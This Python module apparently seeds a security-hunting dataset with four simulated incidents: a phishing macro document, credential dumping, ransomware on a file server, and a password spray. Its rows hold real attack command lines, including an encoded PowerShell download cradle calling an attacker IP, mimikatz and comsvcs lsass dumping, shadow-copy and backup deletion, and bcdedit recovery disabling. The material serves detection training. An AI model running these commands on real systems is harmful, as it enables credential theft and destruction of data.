"""The attack stories planted in the seeded hunting tables (see :mod:`.generator` for what each one is).

Times are relative to the tenant's anchor (:func:`story_times`); the same stories are the first seeded incidents
(``incidents.py``), whose alerts are the ``AlertInfo`` / ``AlertEvidence`` rows.
"""

from __future__ import annotations

import datetime as dt

from .dimensions import ATTACKER_IP, CRADLE_B64, SPRAY_IP, Dimensions, _guid, _h

def story_times(anchor: dt.datetime) -> dict[str, dt.datetime]:
    """Start time of each planted story, relative to the tenant's anchor time."""
    phish = (anchor - dt.timedelta(days=4)).replace(hour=9, minute=12, second=31, microsecond=512000)
    return {
        "phish": phish,
        "creds": phish + dt.timedelta(minutes=45),
        "ransom": (anchor - dt.timedelta(days=3)).replace(hour=2, minute=17, second=5, microsecond=250000),
        "spray": (anchor - dt.timedelta(days=6)).replace(hour=22, minute=40, second=0, microsecond=0),
    }


def _proc_cols(prefix: str, proc: dict, cmd: str | None = None) -> dict:
    """FileName-style columns of a process, under a prefix ("" or "InitiatingProcess")."""
    out = {
        f"{prefix}FileName": proc["FileName"], f"{prefix}FolderPath": proc["FolderPath"],
        f"{prefix}SHA1": proc["SHA1"], f"{prefix}SHA256": proc["SHA256"], f"{prefix}MD5": proc["MD5"],
        f"{prefix}CommandLine" if prefix else "ProcessCommandLine": cmd or proc["CommandLine"],
    }
    return out


def plant_stories(con, dims: Dimensions, anchor: dt.datetime) -> None:
    from .generator import insert_row  # generator imports this module

    t = story_times(anchor)
    ws = dims.device("ws-fin-07")
    srv = dims.device("srv-file-02")
    megan = dims.user("megan.bowen")
    acct = {"AccountName": megan["AccountName"], "AccountDomain": megan["AccountDomain"],
            "AccountSid": megan["Sid"], "AccountUpn": megan["Upn"], "AccountObjectId": megan["ObjectId"]}
    ip_acct = {f"InitiatingProcess{k}": v for k, v in acct.items()}
    dev = {"DeviceId": ws["DeviceId"], "DeviceName": ws["DeviceName"]}
    outlook, word, ps = dims.process("OUTLOOK.EXE"), dims.process("WINWORD.EXE"), dims.process("powershell.exe")
    cmd = dims.process("cmd.exe")
    doc_sha256 = _h("phish-doc", dims.tenant_id)
    msg_id = _guid(dims.tenant_id, "phish-mail")
    doc_path = (f"C:\\Users\\{megan['AccountName']}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
                "Content.Outlook\\Q7X2M1PZ\\INV-4471.docm")
    t0 = t["phish"]
    sender = "billing@northwind-invoices.com"
    insert_row(con, "EmailEvents", {
        "Timestamp": t0, "NetworkMessageId": msg_id, "InternetMessageId": f"<{msg_id}@northwind-invoices.com>",
        "SenderMailFromAddress": sender, "SenderFromAddress": sender, "SenderDisplayName": "Northwind Billing",
        "SenderMailFromDomain": "northwind-invoices.com", "SenderFromDomain": "northwind-invoices.com",
        "SenderIPv4": "198.51.100.77", "RecipientEmailAddress": megan["Upn"], "RecipientObjectId": megan["ObjectId"],
        "Subject": "Overdue invoice INV-4471", "EmailDirection": "Inbound", "DeliveryAction": "Delivered",
        "DeliveryLocation": "Inbox/folder", "LatestDeliveryAction": "Delivered",
        "LatestDeliveryLocation": "Inbox/folder", "AttachmentCount": 1, "UrlCount": 1, "EmailLanguage": "en",
        "AuthenticationDetails": '{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}',
        "ReportId": _guid(dims.tenant_id, "phish-report"), "ThreatTypes": "", "BulkComplaintLevel": 0,
    })
    insert_row(con, "EmailAttachmentInfo", {
        "Timestamp": t0, "NetworkMessageId": msg_id, "SenderFromAddress": sender,
        "SenderDisplayName": "Northwind Billing", "RecipientEmailAddress": megan["Upn"],
        "RecipientObjectId": megan["ObjectId"], "FileName": "INV-4471.docm", "FileType": "docm",
        "SHA256": doc_sha256, "FileSize": 48213, "ThreatTypes": "", "ReportId": _guid(dims.tenant_id, "phish-att"),
    })
    insert_row(con, "EmailUrlInfo", {
        "Timestamp": t0, "NetworkMessageId": msg_id, "Url": "https://northwind-invoices.com/pay/4471",
        "UrlDomain": "northwind-invoices.com", "UrlLocation": "Body", "ReportId": _guid(dims.tenant_id, "phish-url"),
    })
    insert_row(con, "DeviceFileEvents", dev | ip_acct | _proc_cols("InitiatingProcess", outlook) | {
        "Timestamp": t0 + dt.timedelta(minutes=2), "ActionType": "FileCreated", "FileName": "INV-4471.docm",
        "FolderPath": doc_path, "SHA256": doc_sha256, "SHA1": doc_sha256[:40], "MD5": doc_sha256[:32],
        "FileSize": 48213, "ReportId": 910001,
    })
    insert_row(con, "DeviceEvents", dev | ip_acct | _proc_cols("InitiatingProcess", word) | {
        "Timestamp": t0 + dt.timedelta(minutes=3, seconds=10), "ActionType": "AsrOfficeChildProcessAudited",
        "FileName": "powershell.exe", "FolderPath": ps["FolderPath"], "SHA256": ps["SHA256"],
        "ProcessCommandLine": f"powershell.exe -nop -w hidden -enc {CRADLE_B64}", "ReportId": 910002,
        "AdditionalFields": {"IsAudit": True},
    })
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("", word,
               f'"WINWORD.EXE" /n "{doc_path}"') | _proc_cols("InitiatingProcess", outlook) | {
        "Timestamp": t0 + dt.timedelta(minutes=3), "ActionType": "ProcessCreated", "ProcessId": 7312,
        "InitiatingProcessId": 5120, "InitiatingProcessParentFileName": "explorer.exe",
        "ProcessCreationTime": t0 + dt.timedelta(minutes=3), "ReportId": 910003,
        "ProcessVersionInfoCompanyName": "Microsoft Corporation", "ProcessIntegrityLevel": "Medium",
    })
    cradle_cmd = f"powershell.exe -nop -w hidden -enc {CRADLE_B64}"
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("", ps, cradle_cmd)
               | _proc_cols("InitiatingProcess", word, f'"WINWORD.EXE" /n "{doc_path}"') | {
        "Timestamp": t0 + dt.timedelta(minutes=4), "ActionType": "ProcessCreated", "ProcessId": 8840,
        "InitiatingProcessId": 7312, "InitiatingProcessParentFileName": "OUTLOOK.EXE",
        "ProcessCreationTime": t0 + dt.timedelta(minutes=4), "ReportId": 910004,
        "ProcessVersionInfoCompanyName": "Microsoft Corporation", "ProcessIntegrityLevel": "Medium",
        "ProcessVersionInfoOriginalFileName": "PowerShell.EXE",
    })
    insert_row(con, "DeviceNetworkEvents", dev | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd) | {
        "Timestamp": t0 + dt.timedelta(minutes=4, seconds=5), "ActionType": "ConnectionSuccess",
        "RemoteIP": ATTACKER_IP, "RemotePort": 80, "RemoteUrl": f"http://{ATTACKER_IP}/a.ps1",
        "LocalIP": ws["LocalIP"], "LocalPort": 50122, "Protocol": "Tcp", "LocalIPType": "Private",
        "RemoteIPType": "Public", "InitiatingProcessId": 8840, "ReportId": 910005,
    })
    insert_row(con, "DeviceEvents", dev | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd) | {
        "Timestamp": t0 + dt.timedelta(minutes=4, seconds=6), "ActionType": "PowerShellCommand",
        "AdditionalFields": {"Command": "Invoke-Expression"}, "ReportId": 910006,
    })
    # credential dumping
    t1 = t["creds"]
    mimi = {"FileName": "mimikatz.exe", "FolderPath": "C:\\Users\\Public\\mimikatz.exe",
            "SHA1": _h("mimikatz", n=40), "SHA256": _h("mimikatz-256"), "MD5": _h("mimikatz-md5", n=32)}
    insert_row(con, "DeviceFileEvents", dev | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd) | mimi | {
        "Timestamp": t1 - dt.timedelta(minutes=1), "ActionType": "FileCreated", "FileSize": 1250056,
        "FileOriginUrl": f"http://{ATTACKER_IP}/m.exe", "FileOriginIP": ATTACKER_IP, "ReportId": 910010,
    })
    mimi_cmd = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("InitiatingProcess", ps, cradle_cmd)
               | {k: v for k, v in mimi.items()} | {
        "ProcessCommandLine": mimi_cmd, "Timestamp": t1, "ActionType": "ProcessCreated", "ProcessId": 9104,
        "InitiatingProcessId": 8840, "InitiatingProcessParentFileName": "WINWORD.EXE", "FileSize": 1250056,
        "ProcessCreationTime": t1, "ProcessIntegrityLevel": "High", "ReportId": 910011,
        "ProcessVersionInfoCompanyName": "gentilkiwi (Benjamin DELPY)", "ProcessVersionInfoProductName": "mimikatz",
        "ProcessVersionInfoOriginalFileName": "mimikatz.exe",
    })
    insert_row(con, "DeviceEvents", dev | ip_acct | {
        "InitiatingProcessFileName": "mimikatz.exe", "InitiatingProcessCommandLine": mimi_cmd,
        "InitiatingProcessSHA256": mimi["SHA256"], "InitiatingProcessId": 9104,
        "Timestamp": t1 + dt.timedelta(seconds=2), "ActionType": "OpenProcessApiCall", "FileName": "lsass.exe",
        "FolderPath": "C:\\Windows\\System32\\lsass.exe", "ProcessId": 624, "ReportId": 910012,
        "AdditionalFields": {"DesiredAccess": 5136},
    })
    rundll = dims.process("rundll32.exe")
    dump_cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full"
    insert_row(con, "DeviceProcessEvents", dev | acct | ip_acct | _proc_cols("", rundll, dump_cmd)
               | _proc_cols("InitiatingProcess", ps, cradle_cmd) | {
        "Timestamp": t1 + dt.timedelta(minutes=3), "ActionType": "ProcessCreated", "ProcessId": 9220,
        "InitiatingProcessId": 8840, "ProcessCreationTime": t1 + dt.timedelta(minutes=3), "ReportId": 910013,
        "ProcessIntegrityLevel": "High",
    })
    insert_row(con, "DeviceFileEvents", dev | ip_acct | _proc_cols("InitiatingProcess", rundll, dump_cmd) | {
        "Timestamp": t1 + dt.timedelta(minutes=3, seconds=4), "ActionType": "FileCreated", "FileName": "lsass.dmp",
        "FolderPath": "C:\\Users\\Public\\lsass.dmp", "FileSize": 48_000_000, "ReportId": 910014,
    })
    # ransomware on the file server
    t2 = t["ransom"]
    sdev = {"DeviceId": srv["DeviceId"], "DeviceName": srv["DeviceName"]}
    insert_row(con, "DeviceLogonEvents", sdev | acct | {
        "Timestamp": t2 - dt.timedelta(minutes=5), "ActionType": "LogonSuccess", "LogonType": "RemoteInteractive",
        "Protocol": "Negotiate", "RemoteDeviceName": ws["DeviceName"], "RemoteIP": ws["LocalIP"],
        "RemoteIPType": "Private", "RemotePort": 50331, "IsLocalAdmin": True, "LogonId": 5553311, "ReportId": 920001,
    })
    locker = {"FileName": "locker.exe", "FolderPath": "C:\\ProgramData\\locker.exe", "SHA1": _h("locker", n=40),
              "SHA256": _h("locker-256"), "MD5": _h("locker-md5", n=32)}
    steps = [
        ("cmd.exe", cmd["FolderPath"], 'cmd.exe /c "C:\\ProgramData\\locker.exe --encrypt D:\\Shares"', 0),
        ("locker.exe", locker["FolderPath"], "C:\\ProgramData\\locker.exe --encrypt D:\\Shares", 1),
        ("vssadmin.exe", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", 2),
        ("WMIC.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete", 3),
        ("wbadmin.exe", "C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet", 4),
        ("bcdedit.exe", "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No", 5),
        ("bcdedit.exe", "C:\\Windows\\System32\\bcdedit.exe",
         "bcdedit /set {default} bootstatuspolicy ignoreallfailures", 6),
    ]
    for k, (fname, path, line, offset) in enumerate(steps):
        parent = ("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE") if k == 0 else \
            ("cmd.exe", cmd["FolderPath"], steps[0][2]) if k == 1 else \
            ("locker.exe", locker["FolderPath"], steps[1][2])
        insert_row(con, "DeviceProcessEvents", sdev | acct | ip_acct | {
            "Timestamp": t2 + dt.timedelta(seconds=20 * offset), "ActionType": "ProcessCreated",
            "FileName": fname, "FolderPath": path, "ProcessCommandLine": line,
            "SHA256": locker["SHA256"] if fname == "locker.exe" else _h("sha256", fname),
            "SHA1": locker["SHA1"] if fname == "locker.exe" else _h("sha1", fname, n=40),
            "ProcessId": 4100 + k, "InitiatingProcessId": 4099 + k, "InitiatingProcessFileName": parent[0],
            "InitiatingProcessFolderPath": parent[1], "InitiatingProcessCommandLine": parent[2],
            "ProcessCreationTime": t2 + dt.timedelta(seconds=20 * offset), "ProcessIntegrityLevel": "High",
            "InitiatingProcessIntegrityLevel": "High", "ReportId": 920010 + k,
        })
    for k in range(40):
        name = ["Budget", "Payroll", "Contract", "Forecast", "Customers"][k % 5] + f"-{2020 + k % 6}-{k:02d}.xlsx"
        insert_row(con, "DeviceFileEvents", sdev | ip_acct | {
            "InitiatingProcessFileName": "locker.exe", "InitiatingProcessFolderPath": locker["FolderPath"],
            "InitiatingProcessSHA256": locker["SHA256"], "InitiatingProcessCommandLine": steps[1][2],
            "Timestamp": t2 + dt.timedelta(minutes=3, seconds=3 * k), "ActionType": "FileRenamed",
            "FileName": f"{name}.locked", "FolderPath": f"D:\\Shares\\Finance\\{name}.locked",
            "PreviousFileName": name, "PreviousFolderPath": f"D:\\Shares\\Finance\\{name}",
            "FileSize": 20_000 + 137 * k, "ReportId": 920100 + k,
        })
    # the locker fetches its key from its C2 before it encrypts
    insert_row(con, "DeviceNetworkEvents", sdev | ip_acct | {
        "InitiatingProcessFileName": "locker.exe", "InitiatingProcessFolderPath": locker["FolderPath"],
        "InitiatingProcessSHA256": locker["SHA256"], "InitiatingProcessCommandLine": steps[1][2],
        "Timestamp": t2 + dt.timedelta(minutes=2, seconds=30), "ActionType": "ConnectionSuccess",
        "RemoteIP": "203.0.113.77", "RemotePort": 443, "RemoteUrl": "keys.locker-pay.example", "Protocol": "Tcp",
        "LocalIP": "10.20.0.12", "LocalPort": 51544, "ReportId": 920300,
    })
    insert_row(con, "DeviceFileEvents", sdev | ip_acct | {
        "InitiatingProcessFileName": "locker.exe", "InitiatingProcessFolderPath": locker["FolderPath"],
        "InitiatingProcessSHA256": locker["SHA256"], "Timestamp": t2 + dt.timedelta(minutes=6),
        "ActionType": "FileCreated", "FileName": "README_RESTORE_FILES.txt",
        "FolderPath": "D:\\Shares\\Finance\\README_RESTORE_FILES.txt", "FileSize": 1822, "ReportId": 920200,
    })
    # password spray
    t3 = t["spray"]
    for k, u in enumerate(dims.users):
        for attempt in range(3):
            insert_row(con, "IdentityLogonEvents", {
                "Timestamp": t3 + dt.timedelta(seconds=11 * (k * 3 + attempt)), "ActionType": "LogonFailed",
                "Application": "Active Directory", "LogonType": "Credentials Validation", "Protocol": "NTLM",
                "FailureReason": "WrongPassword", "AccountName": u["AccountName"], "AccountDomain": dims.domain,
                "AccountUpn": u["Upn"], "AccountSid": u["Sid"], "AccountObjectId": u["ObjectId"],
                "AccountDisplayName": u["DisplayName"], "DeviceName": "kali", "IPAddress": SPRAY_IP, "Port": 40000 + k,
                "DestinationDeviceName": dims.device("srv-dc-01")["DeviceName"],
                "DestinationIPAddress": dims.device("srv-dc-01")["LocalIP"], "DestinationPort": 445,
                "Location": "Unknown", "Isp": "Example Hosting", "ReportId": _guid(dims.tenant_id, "spray", k, attempt),
                "AdditionalFields": {"Spray": True},
            })
